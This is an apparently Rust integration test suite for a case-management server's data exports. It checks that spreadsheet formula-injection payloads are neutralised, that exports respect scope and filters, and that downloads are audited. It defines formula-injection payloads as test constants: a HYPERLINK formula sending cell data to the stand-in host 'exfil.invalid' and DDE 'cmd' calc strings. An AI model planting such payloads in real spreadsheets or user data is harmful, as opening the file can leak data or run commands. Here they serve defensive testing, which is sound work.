//! Case exports over real HTTP on SQLite and PostgreSQL. The tests cover spreadsheet formula
//! payloads in CSV and XLSX cells, the byte order mark, columns limited to readable forms, and
//! rows limited to the export scope and the filter. They also cover ownership of the files, the
//! audit log, expiry, the password-protected ZIP, and a CSV export imported again unchanged.
//!
//! The payloads are those of the worked example of a record built to attack spreadsheets,
//! mapped onto fields of the default configuration:
//!
//! | Example key | Field |
//! |---|---|
//! | full_name | name_first |
//! | caregiver_name | name_last |
//! | nickname | name_nickname |
//! | notes | family_details_notes (textarea) |
//! | address_line | address_current |
//! | referral_reason | protection_concerns_details (textarea) |
//! | phone | phone |
//! | household_size | household_size_change (a number field the test adds, -99 to 99) |
//! | debt_amount_bdt | debt_amount_bdt (a decimal number field the test adds) |
//! | name_bn | name_other_spellings |
//! | plain_note | case_plan_goal (textarea) |

mod common;

use std::collections::HashMap;
use std::io::{Cursor, Read};
use std::time::Duration;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use common::{AGENCY_A, AGENCY_B, Backend, TestApp, backend_tests, child, send, with};
use reqwest::{Client, StatusCode};
use sathi_domain::config::Field;
use sathi_server::state::LoadedConfiguration;
use serde_json::{Value, json};

backend_tests!(
    csv_cells_neutralise_formulas,
    xlsx_text_cells_are_strings,
    csv_bom_only_in_csv,
    unreadable_form_has_no_column,
    export_contains_scoped_filtered_cases,
    other_users_export_is_404,
    downloads_are_audited,
    expired_export_is_gone,
    password_zip_needs_password,
    json_export_contains_case_views,
    export_requests_checked,
    csv_export_reimports_unchanged,
    stalled_export_fails_as_interrupted,
    bangla_reader_gets_bangla_labels,
    fourth_running_export_rejected,
    simultaneous_exports_keep_limit,
);

const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
const CAREGIVER_NAME: &str = "+cmd|' /C calc'!A0";
const NICKNAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const NOTES: &str = "-2+3 meeting moved";
const ADDRESS_LINE: &str = "\t=1+1";
const REFERRAL_REASON: &str = "\r=1+1";
const PHONE: &str = "+8801700000009";
const NAME_BN: &str = "=রুমানা";
const PLAIN_NOTE: &str = "Child attends school; mother works at a garment factory.";

const PASSWORD: &str = "correct horse battery";

struct Fixture {
    app: TestApp,
    /// Caseworker of agency A, reading English; owns the payload case.
    rahima: Client,
    /// Another caseworker of agency A.
    karim: Client,
    /// Agency admin of agency A (export at agency scope).
    mizan: Client,
    /// Agency admin of agency B.
    admin_b: Client,
    /// A service provider: no export grant.
    provider: Client,
    /// The payload case, created over the API (leading tab and carriage return are trimmed).
    payload_case: Value,
}

/// Returns the configuration in force plus two number fields on the family details form, so that the
/// example's negative numbers can be stored.
fn configuration_with_numbers(app: &TestApp) -> LoadedConfiguration {
    let loaded = app.state.configuration();
    let mut config = loaded.config.clone();
    let fields: Vec<Field> = serde_json::from_value(json!([
        {"id": "household_size_change", "label": {"en": "Change in household size", "bn": "খানার সদস্য সংখ্যার পরিবর্তন"},
            "type": "number", "min": -99, "max": 99},
        {"id": "debt_amount_bdt", "label": {"en": "Debt (BDT)", "bn": "ঋণ (টাকা)"}, "type": "number", "decimal": true},
    ]))
    .expect("the test fields parse");
    let form =
        config.forms.iter_mut().find(|form| form.id == "family_details").expect("family_details exists");
    form.fields.extend(fields);
    LoadedConfiguration { version: loaded.version, config }
}

async fn fixture(backend: Backend) -> Fixture {
    let app = TestApp::spawn(backend).await;
    app.state.replace_configuration(configuration_with_numbers(&app));
    for (username, role, agency) in [
        ("cw.rahima", "caseworker", AGENCY_A),
        ("cw.karim", "caseworker", AGENCY_A),
        ("admin.mizan", "agency_admin", AGENCY_A),
        ("admin.b", "agency_admin", AGENCY_B),
        ("sp.nasrin", "service_provider", AGENCY_A),
    ] {
        app.create_user(username, role, agency, "en").await;
    }
    let login = |name: &'static str| app.login(name, common::PASSWORD);
    let (rahima, karim, mizan, admin_b, provider) = (
        login("cw.rahima").await,
        login("cw.karim").await,
        login("admin.mizan").await,
        login("admin.b").await,
        login("sp.nasrin").await,
    );

    let member =
        json!({"unique_id": uuid::Uuid::new_v4(), "name": "@mother", "relation": "mother", "age": 35});
    let data = with(
        child(FULL_NAME),
        json!({
            "name_last": CAREGIVER_NAME,
            "name_nickname": NICKNAME,
            "family_details_notes": NOTES,
            "address_current": ADDRESS_LINE,
            "protection_concerns_details": REFERRAL_REASON,
            "phone": PHONE,
            "household_size_change": -1,
            "debt_amount_bdt": -2500.5,
            "name_other_spellings": NAME_BN,
            "case_plan_goal": PLAIN_NOTE,
            "family_members": [member],
        }),
    );
    let payload_case = app.create_case(&rahima, data).await;
    Fixture { app, rahima, karim, mizan, admin_b, provider, payload_case }
}

/// Builds a running CSV export of `owner` requested at `now`, to store directly.
fn running_csv_export(owner: sathi_domain::ids::UserId, now: time::OffsetDateTime) -> sathi_store::NewExport {
    sathi_store::NewExport {
        id: sathi_store::ExportId(uuid::Uuid::now_v7()),
        owner_id: owner,
        format: "csv".to_owned(),
        file_name: "sathi-cases.csv".to_owned(),
        content_type: "text/csv; charset=utf-8".to_owned(),
        password_protected: false,
        now,
        expires_at: now + time::Duration::hours(24),
    }
}

/// Asks for an export as `client` and waits until it is ready; returns the export view.
async fn export_ready(app: &TestApp, client: &Client, body: Value) -> Value {
    let (status, created) = send(client.post(app.api("/exports")).json(&body)).await;
    assert_eq!(status, StatusCode::ACCEPTED, "creating an export failed: {created}");
    let id = created["id"].as_str().expect("an export view has an id").to_owned();
    for _ in 0..300 {
        let (status, view) = send(client.get(app.api(&format!("/exports/{id}")))).await;
        assert_eq!(status, StatusCode::OK, "reading the export failed: {view}");
        match view["state"].as_str() {
            Some("ready") => return view,
            Some("running") => tokio::time::sleep(Duration::from_millis(100)).await,
            _ => panic!("the export did not become ready: {view}"),
        }
    }
    panic!("the export was still running after 30 seconds");
}

/// Downloads an export; returns the status, the content type and the bytes.
async fn download(app: &TestApp, client: &Client, id: &str) -> (StatusCode, String, Vec<u8>) {
    let response = client
        .get(app.api(&format!("/exports/{id}/download")))
        .send()
        .await
        .expect("the download request failed");
    let status = response.status();
    let content_type = response
        .headers()
        .get("content-type")
        .map(|value| value.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (status, content_type, response.bytes().await.expect("failed to read the file").to_vec())
}

/// Exports as `client` in `format` with `filter` and returns the downloaded bytes.
async fn export_bytes(app: &TestApp, client: &Client, format: &str, filter: Value) -> Vec<u8> {
    let view = export_ready(app, client, json!({"format": format, "filter": filter})).await;
    let (status, _, bytes) = download(app, client, view["id"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&bytes));
    bytes
}

/// A parsed CSV export: its header row and its records keyed by display id.
struct CsvTable {
    header: Vec<String>,
    rows: HashMap<String, Vec<String>>,
}

impl CsvTable {
    fn parse(bytes: &[u8]) -> CsvTable {
        let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(body);
        let header: Vec<String> =
            reader.headers().expect("the CSV has a header").iter().map(str::to_owned).collect();
        let rows = reader
            .records()
            .map(|record| {
                let record: Vec<String> =
                    record.expect("a CSV record parses").iter().map(str::to_owned).collect();
                (record[0].clone(), record)
            })
            .collect();
        CsvTable { header, rows }
    }

    fn cell(&self, display_id: &str, header: &str) -> &str {
        let column = self
            .header
            .iter()
            .position(|name| name == header)
            .unwrap_or_else(|| panic!("no column {header:?} in {:?}", self.header));
        &self.rows.get(display_id).unwrap_or_else(|| panic!("no row for {display_id}"))[column]
    }
}

/// Checks every cell of the worked example in the CSV export: formula starts get one leading
/// apostrophe, numbers are not marked, plain text is unchanged, and cells with quotes or a
/// carriage return are quoted per RFC 4180. The leading tab and carriage return are trimmed
/// when a person types them, so the case written through the store keeps them as stored data
/// from before the rule could.
async fn csv_cells_neutralise_formulas(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let display_id = fixture.payload_case["display_id"].as_str().unwrap().to_owned();

    // A second case of Rahima's, written straight to the store with the untrimmed values.
    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
    let principal = sathi_domain::principal::Principal {
        user_id: user.id,
        agency_id: user.agency_id.clone(),
        role: app.state.configuration().config.role("caseworker").unwrap().clone(),
        group_ids: Vec::new(),
    };
    let mut data = fixture.payload_case["data"].as_object().unwrap().clone();
    data.insert("address_current".into(), json!(ADDRESS_LINE));
    data.insert("protection_concerns_details".into(), json!(REFERRAL_REASON));
    let stored = app
        .state
        .store
        .create_case(
            &principal,
            &sathi_store::NewCase {
                id: sathi_domain::ids::CaseId(uuid::Uuid::new_v4()),
                display_id: "CXB-STORED".into(),
                data,
                changes: Vec::new(),
                owner_id: user.id,
                owner_agency_id: user.agency_id.clone(),
                now: time::OffsetDateTime::now_utc(),
            },
        )
        .await
        .expect("writing the stored case failed");
    assert_eq!(stored.display_id, "CXB-STORED");

    let bytes = export_bytes(app, &fixture.rahima, "csv", json!({})).await;
    let table = CsvTable::parse(&bytes);
    let expected = [
        ("First name", "'=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")"),
        ("Last name", "'+cmd|' /C calc'!A0"),
        ("Nickname", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Notes on the family", "'-2+3 meeting moved"),
        ("Phone number", "'+8801700000009"),
        ("Change in household size", "-1"),
        ("Debt (BDT)", "-2500.5"),
        ("Other spellings of the name", "'=রুমানা"),
        ("Overall goal for the child", "Child attends school; mother works at a garment factory."),
    ];
    for (header, cell) in expected {
        assert_eq!(table.cell(&display_id, header), cell, "API case, column {header}");
        assert_eq!(table.cell("CXB-STORED", header), cell, "stored case, column {header}");
    }
    // Typed through the API, the leading tab and carriage return were trimmed.
    assert_eq!(table.cell(&display_id, "Shelter and address details"), "'=1+1");
    assert_eq!(table.cell(&display_id, "Description of the concerns"), "'=1+1");
    assert_eq!(table.cell("CXB-STORED", "Shelter and address details"), "'\t=1+1");
    assert_eq!(table.cell("CXB-STORED", "Description of the concerns"), "'\r=1+1");

    let text = String::from_utf8(bytes).expect("the CSV is UTF-8");
    assert!(text.contains("\"'\r=1+1\""), "a cell with a carriage return is not quoted");
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://exfil.invalid/?d=\"\"&A2,\"\"open file\"\")\""),
        "quotes inside a cell are not doubled"
    );
    assert!(
        !text.contains("\"Child attends school; mother works at a garment factory.\""),
        "a cell without a comma, quote or line break is quoted"
    );
    // The subform is one column with its rows as JSON.
    let members: Value =
        serde_json::from_str(table.cell(&display_id, "Family members")).expect("the rows are JSON");
    assert_eq!(members[0]["name"], "@mother");
}

/// Checks the XLSX export: every text cell is a string with its text unchanged, no cell contains a
/// formula, numbers are numbers, dates are dates, and the subform has its own sheet.
async fn xlsx_text_cells_are_strings(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let display_id = fixture.payload_case["display_id"].as_str().unwrap().to_owned();

    let bytes = export_bytes(app, &fixture.rahima, "xlsx", json!({})).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("the XLSX does not open");
    assert_eq!(workbook.sheet_names()[0], "Cases");
    assert!(
        workbook.sheet_names().iter().any(|name| name == "Family members"),
        "{:?}",
        workbook.sheet_names()
    );
    let cases = workbook.worksheet_range("Cases").expect("the case sheet reads");
    let header: Vec<String> =
        (0..cases.width()).map(|column| cases.get((0, column)).unwrap().to_string()).collect();
    let column = |name: &str| {
        header.iter().position(|heading| heading == name).unwrap_or_else(|| panic!("no column {name}"))
    };
    let row = (1..cases.height())
        .find(|row| cases.get((*row, 0)) == Some(&Data::String(display_id.clone())))
        .expect("the case has a row");
    let cell = |name: &str| cases.get((row, column(name))).cloned();

    for (header, text) in [
        ("First name", FULL_NAME),
        ("Last name", CAREGIVER_NAME),
        ("Nickname", NICKNAME),
        ("Notes on the family", NOTES),
        ("Phone number", PHONE),
        ("Other spellings of the name", NAME_BN),
        ("Overall goal for the child", PLAIN_NOTE),
        ("Shelter and address details", "=1+1"),
        ("Description of the concerns", "=1+1"),
    ] {
        assert_eq!(cell(header), Some(Data::String(text.to_owned())), "column {header}");
    }
    assert_eq!(cell("Change in household size"), Some(Data::Float(-1.0)));
    assert_eq!(cell("Debt (BDT)"), Some(Data::Float(-2500.5)));
    match cell("Registration date") {
        Some(Data::DateTime(date)) => assert_eq!(date.to_ymd_hms_milli(), (2024, 6, 20, 0, 0, 0, 0)),
        other => panic!("the registration date is not a date cell: {other:?}"),
    }
    assert_eq!(cell("Sex"), Some(Data::String("Female".to_owned())), "a lookup is not its label");

    let formulas = workbook.worksheet_formula("Cases").expect("the formulas read");
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "a cell contains a formula");
    let members = workbook.worksheet_range("Family members").expect("the subform sheet reads");
    assert_eq!(members.get((1, 0)), Some(&Data::String(display_id.clone())));
    assert!(
        (0..members.width())
            .any(|column| members.get((1, column)) == Some(&Data::String("@mother".to_owned()))),
        "the family member's name is not a string cell"
    );
}

/// Checks that the spreadsheet CSV starts with a UTF-8 byte order mark and the plain CSV does
/// not, and that Bangla text arrives intact in both.
async fn csv_bom_only_in_csv(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;

    let with_bom = export_bytes(app, &fixture.rahima, "csv", json!({})).await;
    assert_eq!(&with_bom[..3], [0xEF, 0xBB, 0xBF], "the csv export has no byte order mark");
    let plain = export_bytes(app, &fixture.rahima, "csv_plain", json!({})).await;
    assert_eq!(&plain[..8], b"Case ID,", "the csv_plain export does not start with its header");
    assert_eq!(&with_bom[3..], &plain[..], "the two CSV variants differ beyond the mark");
    assert!(String::from_utf8(plain).unwrap().contains("'=রুমানা"));
}

/// Checks that a form the caller may not read gives no column, no sheet and none of its values.
async fn unreadable_form_has_no_column(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let mut loaded = (*app.state.configuration()).clone();
    let admin = loaded.config.roles.iter_mut().find(|role| role.id == "agency_admin").unwrap();
    admin.forms.insert("family_details".to_owned(), sathi_domain::permissions::FormAccess::None);
    app.state.replace_configuration(loaded);

    let bytes = export_bytes(app, &fixture.mizan, "csv", json!({})).await;
    let table = CsvTable::parse(&bytes);
    for hidden in ["Notes on the family", "Family members", "Debt (BDT)", "Change in household size"] {
        assert!(!table.header.iter().any(|name| name == hidden), "column {hidden} is in the file");
    }
    assert!(table.header.iter().any(|name| name == "First name"), "{:?}", table.header);
    let text = String::from_utf8(bytes).unwrap();
    assert!(!text.contains(NOTES), "a value of the unreadable form is in the file");
    assert!(!text.contains("-2500.5"), "a value of the unreadable form is in the file");

    let bytes = export_bytes(app, &fixture.mizan, "xlsx", json!({})).await;
    let workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("the XLSX does not open");
    assert!(
        !workbook.sheet_names().iter().any(|name| name == "Family members"),
        "{:?}",
        workbook.sheet_names()
    );
}

/// Checks that an export contains the cases of the caller's export scope that match the filter,
/// and no other.
async fn export_contains_scoped_filtered_cases(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let rahima_id = fixture.payload_case["display_id"].as_str().unwrap().to_owned();
    let karim_case =
        app.create_case(&fixture.karim, with(child("Karim's child"), json!({"risk_level": "low"}))).await;
    let karim_id = karim_case["display_id"].as_str().unwrap().to_owned();

    let table = CsvTable::parse(&export_bytes(app, &fixture.rahima, "csv", json!({})).await);
    assert!(table.rows.contains_key(&rahima_id));
    assert!(!table.rows.contains_key(&karim_id), "another caseworker's case is in the file");
    assert_eq!(table.rows.len(), 1);

    let table = CsvTable::parse(&export_bytes(app, &fixture.mizan, "csv", json!({})).await);
    assert_eq!(table.rows.len(), 2, "the agency export does not hold both cases");
    let high =
        CsvTable::parse(&export_bytes(app, &fixture.mizan, "csv", json!({"risk_level": "high"})).await);
    assert_eq!(high.rows.keys().collect::<Vec<_>>(), [&rahima_id], "the filter is not applied");

    let other_agency = CsvTable::parse(&export_bytes(app, &fixture.admin_b, "csv", json!({})).await);
    assert!(other_agency.rows.is_empty(), "another agency's cases are in the file");
    assert_eq!(other_agency.header[0], "Case ID");
}

/// Checks that another user reads and downloads someone's export as 404 with the same body as
/// a missing export, byte for byte, and that a role without the export grant gets 403.
async fn other_users_export_is_404(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let view = export_ready(app, &fixture.rahima, json!({"format": "csv"})).await;
    let id = view["id"].as_str().unwrap();
    let missing = uuid::Uuid::now_v7().to_string();

    for path in [format!("/exports/{id}"), format!("/exports/{id}/download")] {
        let other = fixture.karim.get(app.api(&path)).send().await.unwrap();
        assert_eq!(other.status(), StatusCode::NOT_FOUND, "{path}");
        let other_body = other.bytes().await.unwrap();
        let missing_path = path.replace(id, &missing);
        let absent = fixture.karim.get(app.api(&missing_path)).send().await.unwrap();
        assert_eq!(absent.status(), StatusCode::NOT_FOUND);
        assert_eq!(other_body, absent.bytes().await.unwrap(), "{path} differs from a missing export");
    }
    let (status, list) = send(fixture.karim.get(app.api("/exports"))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(list, json!([]), "another user's export is listed");
    let (status, list) = send(fixture.rahima.get(app.api("/exports"))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(list[0]["id"], view["id"]);

    let (status, body) =
        send(fixture.provider.post(app.api("/exports")).json(&json!({"format": "csv"}))).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let (status, _) = send(fixture.provider.get(app.api(&format!("/exports/{id}")))).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

/// Checks the audit log: the request with the filter's keys and never its values, and one
/// `export.download` entry per download, missing ones included.
async fn downloads_are_audited(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let body = json!({"format": "xlsx", "filter": {"q": "Rumana", "risk_level": "high"}});
    let view = export_ready(app, &fixture.rahima, body).await;
    let id = view["id"].as_str().unwrap();
    for _ in 0..2 {
        let (status, _, _) = download(app, &fixture.rahima, id).await;
        assert_eq!(status, StatusCode::OK);
    }
    let (status, _, _) = download(app, &fixture.karim, id).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    let entries = app.state.store.audit_entries(None, 200).await.expect("failed to read the audit log");
    let of = |action: &str| entries.iter().filter(|entry| entry.action == action).collect::<Vec<_>>();
    let created = of("export.create");
    assert_eq!(created.len(), 1);
    assert_eq!(created[0].detail["export_id"], view["id"]);
    assert_eq!(created[0].detail["filter"], json!(["q", "risk_level"]));
    let detail = created[0].detail.to_string();
    assert!(
        !detail.contains("Rumana") && !detail.contains("high"),
        "a filter value is in the audit log: {detail}"
    );

    let downloads = of("export.download");
    assert_eq!(downloads.len(), 3, "{downloads:?}");
    assert_eq!(downloads.iter().filter(|entry| entry.outcome == "ok").count(), 2);
    assert_eq!(downloads.iter().filter(|entry| entry.outcome == "not_found").count(), 1);
    assert!(downloads.iter().all(|entry| entry.detail == json!({"export_id": view["id"]})));
}

/// Checks that an export is gone once it expires (24 hours by default), and that the cleanup
/// deletes it from the database.
async fn expired_export_is_gone(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let view = export_ready(app, &fixture.rahima, json!({"format": "json"})).await;
    let id = view["id"].as_str().unwrap();
    let created = time::OffsetDateTime::parse(
        view["created_at"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap();
    let expires = time::OffsetDateTime::parse(
        view["expires_at"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap();
    assert_eq!(expires - created, time::Duration::hours(24));

    let later = expires + time::Duration::minutes(1);
    *app.state.settings.now_override.write().unwrap() = Some(later);
    let (status, _) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = download(app, &fixture.rahima, id).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, list) = send(fixture.rahima.get(app.api("/exports"))).await;
    assert_eq!(list, json!([]));

    let (deleted, _) =
        sathi_server::exports::cleanup_once(&app.state, later).await.expect("the cleanup failed");
    assert_eq!(deleted, 1);
    let export_id = sathi_store::ExportId(uuid::Uuid::parse_str(id).unwrap());
    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
    let before_expiry = app.state.store.export_file(user.id, export_id, created).await.unwrap();
    assert!(before_expiry.is_none(), "the expired export is still stored");
    let chunk = app.state.store.export_chunk(user.id, export_id, 0, created).await.unwrap();
    assert!(chunk.is_none(), "a chunk of the expired export is still stored");
}

/// Checks that a password-protected export is a ZIP that opens with the password and not
/// without it or with another one.
async fn password_zip_needs_password(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let view = export_ready(app, &fixture.rahima, json!({"format": "csv", "password": PASSWORD})).await;
    assert_eq!(view["password_protected"], true);
    let file_name = view["file_name"].as_str().unwrap();
    assert!(file_name.ends_with(".csv.zip"), "{file_name}");
    let (status, content_type, bytes) = download(app, &fixture.rahima, view["id"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(content_type, "application/zip");
    assert_eq!(view["size"], json!(bytes.len()));

    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("the file is a ZIP archive");
    assert_eq!(archive.len(), 1);
    assert!(archive.by_index(0).is_err(), "the archive opens without a password");
    assert!(
        archive.by_index_decrypt(0, b"wrong password").is_err(),
        "the archive opens with a wrong password"
    );
    let mut inner = archive
        .by_index_decrypt(0, PASSWORD.as_bytes())
        .expect("the archive does not open with the password");
    assert_eq!(inner.name().expect("the entry has a name"), file_name.trim_end_matches(".zip"));
    let mut csv = Vec::new();
    inner.read_to_end(&mut csv).unwrap();
    assert_eq!(&csv[..3], [0xEF, 0xBB, 0xBF]);
    let table = CsvTable::parse(&csv);
    let display_id = fixture.payload_case["display_id"].as_str().unwrap();
    assert_eq!(table.cell(display_id, "Nickname"), "'@SUM(1+1)*cmd|' /C calc'!A0");
}

/// Checks that the JSON export contains the whole case views, as `GET /cases/{id}` returns them.
async fn json_export_contains_case_views(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let bytes = export_bytes(app, &fixture.rahima, "json", json!({})).await;
    let cases: Value = serde_json::from_slice(&bytes).expect("the export is JSON");
    let id = fixture.payload_case["id"].as_str().unwrap();
    let (status, case) = send(fixture.rahima.get(app.api(&format!("/cases/{id}")))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(cases, json!([case]));
}

/// Checks that an unknown filter, an invalid filter value and a short password are rejected
/// before any export is made.
async fn export_requests_checked(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let cases = [
        (json!({"format": "csv", "filter": {"colour": "red"}}), StatusCode::BAD_REQUEST, "unknown_filter"),
        (
            json!({"format": "csv", "filter": {"risk_level": "purple"}}),
            StatusCode::BAD_REQUEST,
            "invalid_filter",
        ),
        (json!({"format": "csv", "filter": {"risk_level": 3}}), StatusCode::BAD_REQUEST, "invalid_filter"),
        (json!({"format": "pdf"}), StatusCode::BAD_REQUEST, "invalid_request"),
        (
            json!({"format": "csv", "password": "short"}),
            StatusCode::UNPROCESSABLE_ENTITY,
            "export_password_length",
        ),
        (
            json!({"format": "csv", "password": "        "}),
            StatusCode::UNPROCESSABLE_ENTITY,
            "export_password_length",
        ),
    ];
    for (body, expected_status, code) in cases {
        let (status, error) = send(fixture.rahima.post(app.api("/exports")).json(&body)).await;
        assert_eq!(status, expected_status, "{body}: {error}");
        assert_eq!(error["error"]["code"], code, "{body}: {error}");
    }
    let (_, list) = send(fixture.rahima.get(app.api("/exports"))).await;
    assert_eq!(list, json!([]), "a rejected request made an export");
}

/// Checks the round trip: a CSV export imported again over its own cases changes nothing,
/// because the importer removes exactly the apostrophe the export added and reads the labels,
/// dates and numbers the export wrote.
async fn csv_export_reimports_unchanged(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let bytes = export_bytes(app, &fixture.mizan, "csv", json!({})).await;
    // Every header is different, so the import can name each column.
    let text = String::from_utf8(bytes.clone()).expect("the export is UTF-8");
    let header_line = text.trim_start_matches('\u{feff}').lines().next().expect("a header row");
    let headers: Vec<&str> = header_line.split(',').collect();
    let distinct: std::collections::HashSet<&&str> = headers.iter().collect();
    assert_eq!(distinct.len(), headers.len(), "a header repeats: {header_line}");
    assert!(headers.contains(&"Case ID (Record owner)"), "{header_line}");

    let (status, uploaded) = send(
        fixture
            .mizan
            .post(app.api("/imports"))
            .query(&[("format", "csv"), ("file_name", "export.csv")])
            .header("content-type", "application/octet-stream")
            .body(bytes),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{uploaded}");
    let import_id = uploaded["id"].as_str().unwrap().to_owned();
    let columns: Vec<Value> = [
        ("Registration date", "registration_date"),
        ("First name", "name_first"),
        ("Last name", "name_last"),
        ("Nickname", "name_nickname"),
        ("Other spellings of the name", "name_other_spellings"),
        ("Sex", "sex"),
        ("Shelter and address details", "address_current"),
        ("Phone number", "phone"),
        ("Description of the concerns", "protection_concerns_details"),
        ("Notes on the family", "family_details_notes"),
        ("Change in household size", "household_size_change"),
        ("Debt (BDT)", "debt_amount_bdt"),
        ("Overall goal for the child", "case_plan_goal"),
    ]
    .iter()
    .map(|(column, field)| json!({"column": column, "field": field}))
    .collect();
    let mapping = json!({
        "date_format": "yyyy-mm-dd",
        "columns": columns,
        "case_id_column": "Case ID",
        "external_id_column": null,
        "owner": "cw.rahima",
        "owner_column": null,
        "incumbent": null,
    });

    for job in ["dry-run", "run"] {
        let path = format!("/imports/{import_id}/{job}");
        let (status, body) =
            send(fixture.mizan.post(app.api(&path)).json(&json!({"mapping": mapping}))).await;
        assert_eq!(status, StatusCode::ACCEPTED, "{job}: {body}");
        let mut done = Value::Null;
        for _ in 0..300 {
            let (_, import) = send(fixture.mizan.get(app.api(&format!("/imports/{import_id}")))).await;
            if ["dry_run_done", "done", "failed"].contains(&import["state"].as_str().unwrap_or_default()) {
                done = import;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let key = if job == "run" { "summary" } else { "dry_run_summary" };
        let (_, rows) = send(fixture.mizan.get(app.api(&format!("/imports/{import_id}/rows")))).await;
        assert_eq!(done[key]["unchanged"], 1, "{job}: {done} {rows}");
        assert_eq!(done[key]["updated"], 0, "{job}: {rows}");
        assert_eq!(done[key]["created"], 0, "{job}: {rows}");
        assert_eq!(done[key]["rejected"], 0, "{job}: {rows}");
    }
    let id = fixture.payload_case["id"].as_str().unwrap();
    let (_, case) = send(fixture.rahima.get(app.api(&format!("/cases/{id}")))).await;
    assert_eq!(case["version"], fixture.payload_case["version"], "the import wrote a new version");
    assert_eq!(case["data"]["name_first"], FULL_NAME);
}

/// Checks that an export whose generation stopped reporting progress (its server process
/// stopped) is marked failed by the cleanup after 15 minutes, with the reason in the owner's
/// language, and that a download is then 409 `export_not_ready`.
async fn stalled_export_fails_as_interrupted(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
    let started = time::OffsetDateTime::now_utc() - time::Duration::minutes(20);
    let stalled = running_csv_export(user.id, started);
    let id = stalled.id;
    app.state
        .store
        .create_export(&stalled, 3)
        .await
        .expect("storing the export failed")
        .expect("under the limit");
    let (status, view) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(view["state"], "running");

    let now = time::OffsetDateTime::now_utc();
    let (deleted, interrupted) =
        sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
    assert_eq!((deleted, interrupted), (0, 1));
    let (_, view) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
    assert_eq!(view["state"], "failed");
    assert_eq!(view["error"], "The server stopped while making the file. Ask for the export again.");
    let (status, _, body) = download(app, &fixture.rahima, &id.to_string()).await;
    assert_eq!(status, StatusCode::CONFLICT, "{}", String::from_utf8_lossy(&body));

    // A generation that reported progress within the last 15 minutes is left alone.
    let fresh = sathi_store::NewExport { id: sathi_store::ExportId(uuid::Uuid::now_v7()), now, ..stalled };
    app.state
        .store
        .create_export(&fresh, 3)
        .await
        .expect("storing the export failed")
        .expect("under the limit");
    let (_, interrupted) =
        sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
    assert_eq!(interrupted, 0);
}

/// Checks that headers, option labels, sheet names and failure reasons follow the caller's
/// language, while dates and numbers keep ASCII digits so that spreadsheets read them.
async fn bangla_reader_gets_bangla_labels(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let display_id = fixture.payload_case["display_id"].as_str().unwrap().to_owned();
    let (status, body) = send(fixture.rahima.patch(app.api("/me")).json(&json!({"locale": "bn"}))).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    let table = CsvTable::parse(&export_bytes(app, &fixture.rahima, "csv", json!({})).await);
    assert_eq!(table.header[0], "কেস আইডি");
    assert_eq!(table.cell(&display_id, "লিঙ্গ"), "মহিলা");
    assert_eq!(table.cell(&display_id, "নিবন্ধনের তারিখ"), "2024-06-20");
    assert_eq!(table.cell(&display_id, "ঋণ (টাকা)"), "-2500.5");
    assert_eq!(
        table.cell(&display_id, "নামের প্রথম অংশ"),
        "'=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")"
    );

    let bytes = export_bytes(app, &fixture.rahima, "xlsx", json!({})).await;
    let workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("the XLSX does not open");
    assert_eq!(workbook.sheet_names()[0], "কেস");
